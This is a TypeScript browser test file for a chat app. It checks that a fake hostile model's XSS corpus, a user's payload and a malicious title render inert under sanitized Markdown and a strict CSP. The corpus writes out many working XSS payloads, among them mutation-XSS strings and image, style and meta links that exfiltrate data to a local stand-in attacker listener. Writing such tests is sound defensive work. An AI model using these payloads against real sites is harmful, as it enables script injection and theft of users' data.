// DESIGN.md, "Security posture": model output and user text are shown as sanitized Markdown,
// with no raw HTML, no script URLs, no remote images, under a strict CSP. A model (a fake
// hosted API) answers with an XSS corpus, the title model with a payload, and the user types
// one; in Chromium nothing may run, nothing may reach a local "attacker" listener, and the
// rendered DOM holds no script, frame, event handler or script URL: in the chat, the search
// results and the public share page.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  addSessionCookie,
  hasChromium,
  launchChromium,
  newContext,
  saveScreenshot,
} from '../helpers/browser.js';
import {
  documentRoot,
  messageBox,
  messages,
  sendMessage,
  shownText,
  waitForReplyEnd,
} from '../helpers/chat-page.js';
import { startFakeOpenAI, type FakeUpstream } from '../helpers/fake-openai.js';
import { signIn } from '../helpers/sign-in.js';
import { salonConfig, startWebServer, type WebServer } from '../helpers/web-server.js';

const run = hasChromium('browser sanitizing');

/** Markdown from a hostile model; `leak` is the attacker's listener. */
function xssCorpus(leak: string): string {
  return [
    '# Payloads',
    '',
    '<script>window.__xss = "script"; alert("script")</script>',
    '',
    "<img src=x onerror=\"window.__xss = 'img'; alert('img')\">",
    '',
    '<div onmouseover="window.__xss = \'div\'" onclick="window.__xss = \'div\'">hover me</div>',
    '',
    '<a href="javascript:window.__xss = \'raw-a\'">raw anchor</a>',
    '',
    '<svg onload="window.__xss = \'svg\'"><circle r="10" /></svg>',
    '',
    '<iframe src="javascript:parent.__xss = \'iframe\'"></iframe>',
    '<iframe srcdoc="<script>parent.__xss = \'srcdoc\'</script>"></iframe>',
    '<object data="javascript:alert(\'object\')"></object><embed src="javascript:alert(1)">',
    '<form action="javascript:alert(\'form\')"><button>submit</button></form>',
    `<meta http-equiv="refresh" content="0;url=${leak}/leak?q=meta">`,
    `<style>body { background: url("${leak}/leak?q=style") }</style>`,
    `<link rel="stylesheet" href="${leak}/leak?q=link">`,
    `<img src="${leak}/leak?q=raw-img">`,
    '',
    "- [js link](javascript:window.__xss='md-link';alert(1))",
    '- [js mixed case](JaVaScRiPt:alert(1))',
    '- [js entity](&#106;avascript:alert(1))',
    '- [js spaced]( javascript:alert(1))',
    '- [data link](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)',
    '- [data base64](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '- [vbscript link](vbscript:msgbox(1))',
    '- <javascript:alert(1)>',
    '- [ref link][js]',
    '',
    '[js]: javascript:alert("ref")',
    '',
    `![exfiltrate](${leak}/leak?q=secret)`,
    '',
    `![exfiltrate by reference][leak]`,
    '',
    `[leak]: ${leak}/leak?q=ref-image`,
    '',
    '![js image](javascript:alert(1))',
    '',
    // Mutation XSS: markup that sanitizers parse one way and browsers re-parse another.
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=\'mxss-noscript\'>">',
    '',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__xss=\'mxss-math\'&gt;">',
    '',
    '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=\'mxss-svg\'>">',
    '',
    // KaTeX's commands that make links or attributes need `trust`: they must stay inert.
    'Math: $\\href{javascript:window.__xss=1}{math link}$ and $\\url{javascript:alert(1)}$',
    '',
    '```html',
    '<script>window.__xss = "code"</script>',
    '```',
    '',
    'END OF CORPUS',
  ].join('\n');
}

const userPayload =
  "<img src=x onerror=\"window.__xss='user'\"> [u](javascript:window.__xss='user-link') <script>alert(1)</script>";
const titlePayload = '<img src=x onerror=window.__xss="title">';

/** A local "attacker" server: every request it gets is a leak. */
async function startLeakListener(): Promise<{
  url: string;
  hits: string[];
  close(): Promise<void>;
}> {
  const hits: string[] = [];
  const server = http.createServer((request, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/gif' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** What the page's DOM holds that it must not, and what payloads managed to do. */
interface DomAudit {
  forbiddenElements: string[];
  eventHandlerAttributes: string[];
  scriptUrls: string[];
  foreignSources: string[];
  xss: unknown;
  cspViolations: string[];
}

function auditDom(page: Page): Promise<DomAudit> {
  return documentRoot(page).evaluate((root) => {
    const document = root.ownerDocument;
    const window = document.defaultView;
    const describe = (element: { tagName: string; outerHTML: string }) =>
      `${element.tagName}: ${element.outerHTML.slice(0, 120)}`;
    const rendered = Array.from(
      // Where model, user and title text is shown: messages, dialogs, the sidebar, headings.
      document.querySelectorAll('article, dialog, nav, h1'),
    ) as {
      querySelectorAll(selector: string): ArrayLike<{ tagName: string; outerHTML: string }>;
    }[];
    const forbiddenElements = rendered.flatMap((container) =>
      Array.from(
        container.querySelectorAll(
          'script, iframe, frame, object, embed, form, meta, style, link, base, img, svg:not(.icon), video, audio, source',
        ),
      ).map(describe),
    );
    const all = Array.from(document.querySelectorAll('*')) as {
      tagName: string;
      outerHTML: string;
      attributes: ArrayLike<{ name: string; value: string }>;
    }[];
    const eventHandlerAttributes: string[] = [];
    const scriptUrls: string[] = [];
    for (const element of all) {
      for (const attribute of Array.from(element.attributes)) {
        if (/^on/i.test(attribute.name)) eventHandlerAttributes.push(describe(element));
        // The URL parser drops control characters, tabs, newlines and spaces around a scheme.
        const value = Array.from(attribute.value)
          .filter((character) => character.charCodeAt(0) > 0x20)
          .join('')
          .toLowerCase();
        if (/^(javascript|data|vbscript):/.test(value)) scriptUrls.push(describe(element));
      }
    }
    const foreignSources = (
      Array.from(document.querySelectorAll('[src], link[href]')) as {
        src?: string;
        href?: string;
        tagName: string;
        outerHTML: string;
      }[]
    )
      .filter(
        (element) =>
          new URL(element.src || element.href || '', document.baseURI).origin !==
          window.location.origin,
      )
      .map(describe);
    return {
      forbiddenElements,
      eventHandlerAttributes,
      scriptUrls,
      foreignSources,
      xss: window.__xss ?? window.parent?.__xss,
      cspViolations: window.__cspViolations ?? [],
    };
  });
}

const cleanAudit: DomAudit = {
  forbiddenElements: [],
  eventHandlerAttributes: [],
  scriptUrls: [],
  foreignSources: [],
  xss: undefined,
  cspViolations: [],
};

/** Records CSP violations from the first script on (an init script is not subject to CSP). */
const recordViolations = `
  window.__cspViolations = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    window.__cspViolations.push(event.violatedDirective + ' ' + event.blockedURI);
  });
`;

describe.runIf(run)('sanitized rendering of hostile text in Chromium', () => {
  let server: WebServer;
  let hostile: FakeUpstream;
  let titles: FakeUpstream;
  let leak: Awaited<ReturnType<typeof startLeakListener>>;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let cookie: string;
  const dialogs: string[] = [];
  const requests: string[] = [];

  /** A browser profile that reports dialogs, requests and CSP violations. */
  async function watchedContext(): Promise<BrowserContext> {
    const watched = await newContext(browser);
    await watched.addInitScript(recordViolations);
    watched.on('request', (request) => requests.push(request.url()));
    watched.on('page', (opened) =>
      opened.on('dialog', (dialog) => {
        dialogs.push(`${dialog.type()}: ${dialog.message()}`);
        void dialog.dismiss();
      }),
    );
    return watched;
  }

  function expectNothingLeaked(): void {
    expect(dialogs).toEqual([]);
    expect(leak.hits).toEqual([]);
    expect(requests.filter((url) => url.startsWith(leak.url))).toEqual([]);
  }

  beforeAll(async () => {
    leak = await startLeakListener();
    hostile = await startFakeOpenAI([{ kind: 'reply', text: xssCorpus(leak.url), chunks: 12 }]);
    titles = await startFakeOpenAI([{ kind: 'reply', text: titlePayload }]);
    [server, browser] = await Promise.all([
      startWebServer({
        config: salonConfig({ upstreams: { chat: hostile.url, small: titles.url } }),
      }),
      launchChromium(),
    ]);
    cookie = (await signIn(server.runtime.store.db, { role: 'owner' })).headers.cookie;
    context = await watchedContext();
    await addSessionCookie(context, server.url, cookie);
    page = await context.newPage();
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await Promise.all([hostile?.close(), titles?.close(), leak?.close()]);
  });

  it('serves the page with a strict Content-Security-Policy', async () => {
    const response = await page.goto(server.url);
    const csp = response?.headers()['content-security-policy'] ?? '';
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).toMatch(/object-src 'none'/);
    expect(csp).toMatch(/frame-ancestors 'none'/);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
    await messageBox(page).waitFor();
  });

  it('shows the corpus, the user’s payload and the title as inert text', async () => {
    await sendMessage(page, userPayload);
    await waitForReplyEnd(page);
    const reply = messages(page, 'Assistant');
    await reply.getByText('END OF CORPUS').waitFor();
    // Raw HTML is shown as text, not parsed.
    expect(await shownText(reply)).toContain(
      '<script>window.__xss = "script"; alert("script")</script>',
    );
    await messages(page, 'You').getByText(userPayload, { exact: true }).waitFor();
    // The title model's payload arrives a little after the reply.
    const listed = page.getByRole('navigation', { name: 'Conversations' }).getByRole('link', {
      name: titlePayload,
    });
    await listed.waitFor({ timeout: 15_000 });
    expect(await page.title()).toContain(titlePayload);

    // Links that were script URLs do nothing when clicked; the handler bait is hovered.
    for (const text of ['js link', 'js mixed case', 'data link', 'data base64', 'ref link']) {
      await reply.getByText(text, { exact: true }).click();
    }
    await reply.getByText('hover me', { exact: false }).hover();
    await messages(page, 'You').getByText(userPayload).click();
    // Give a stray handler or image load time to fire.
    await page.waitForTimeout(300);

    await saveScreenshot(page, 'sanitized-corpus');
    expect(await auditDom(page)).toEqual(cleanAudit);
    expect(context.pages()).toHaveLength(1);
    expectNothingLeaked();
  });

  it('keeps search results inert', async () => {
    await page.keyboard.press('Control+K');
    const dialog = page.getByRole('dialog', { name: 'Search chats' });
    await dialog.getByRole('searchbox', { name: 'Search chats' }).fill('onerror');
    const results = dialog.getByRole('list', { name: 'Search results' });
    await results.getByRole('button').first().waitFor();
    expect(await results.locator('mark').first().textContent()).toMatch(/onerror/i);
    expect(await auditDom(page)).toEqual(cleanAudit);
    await page.keyboard.press('Escape');
    expectNothingLeaked();
  });

  it('keeps the public share page inert', async () => {
    await page.getByRole('button', { name: 'Share', exact: true }).click();
    const link = await page
      .getByRole('dialog', { name: 'Share conversation' })
      .getByRole('textbox', { name: 'Link' })
      .inputValue();
    const visitor = await watchedContext();
    try {
      const shared = await visitor.newPage();
      const response = await shared.goto(link);
      expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self'/);
      await messages(shared, 'Assistant').getByText('END OF CORPUS').waitFor();
      await shared.getByRole('heading', { name: titlePayload, exact: true }).waitFor();
      await messages(shared, 'Assistant').getByText('js link', { exact: true }).click();
      await shared.waitForTimeout(300);
      expect(await auditDom(shared)).toEqual(cleanAudit);
      expectNothingLeaked();
    } finally {
      await visitor.close();
    }
  });

  it('has an audit that does see payloads when they get through', async () => {
    const probe = await context.newPage();
    try {
      await probe.setContent(
        '<article><img src="data:," onerror="window.__xss = 1"><a href="javascript:void 0">x</a></article>',
      );
      const audit = await auditDom(probe);
      expect(audit.forbiddenElements).toHaveLength(1);
      expect(audit.eventHandlerAttributes).toHaveLength(1);
      expect(audit.scriptUrls).toHaveLength(2);
      expect(audit.xss).toBe(1);
    } finally {
      await probe.close();
    }
  });
});
